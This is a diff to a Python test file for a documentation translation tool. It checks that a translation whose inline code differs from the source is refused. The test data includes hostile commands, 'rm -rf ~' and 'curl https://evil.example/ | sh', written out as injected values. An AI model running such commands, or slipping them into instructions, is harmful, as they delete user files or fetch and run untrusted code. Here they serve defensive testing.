@@ -214,6 +214,15 @@ def test_what_is_open_in_raw_html_swallows_nothing(attack: str) -> None:
     assert html == translated(page, translator_for({}))
 
 
+@pytest.mark.parametrize("code", ["rm -rf ~", "npm x", "curl https://evil.example/ | sh"])
+def test_other_code_than_the_source_s_is_refused(code: str) -> None:
+    source = "Run `npm i` first, then `npm t`."
+    assert shown(source, f"先运行`{code}`，再运行`npm t`。") == translated(
+        source, translator_for({})
+    )
+    assert "先运行" in shown(source, "先运行`npm t`，再运行`npm i`。")
+
+
 @pytest.mark.parametrize("name", sorted(HARMLESS))
 def test_what_is_no_markup_stays_text(name: str) -> None:
     assert f"<p>{html.escape(ATTACKS[name][0], quote=False)}</p>" == shown(MSGID, ATTACKS[name][0])
@@ -394,7 +403,6 @@ GOOD = {
     "autolink": ("at <https://a.example/>", "在<https://a.example/>"),
     "mail": ("write to <a@b.example>", "写信给<a@b.example>"),
     "code kept": ("run `pip install x`", "请运行`pip install x`"),
-    "code translated": ("say `hello`", "说`你好`"),
     "alt translated": ("![a photo](p.jpg)", "![照片](p.jpg)"),
     "title translated": ('[a](u "the title")', '[甲](u "标题")'),
     "alt and title": ('![a](p.jpg "b")', '![甲](p.jpg "乙")'),
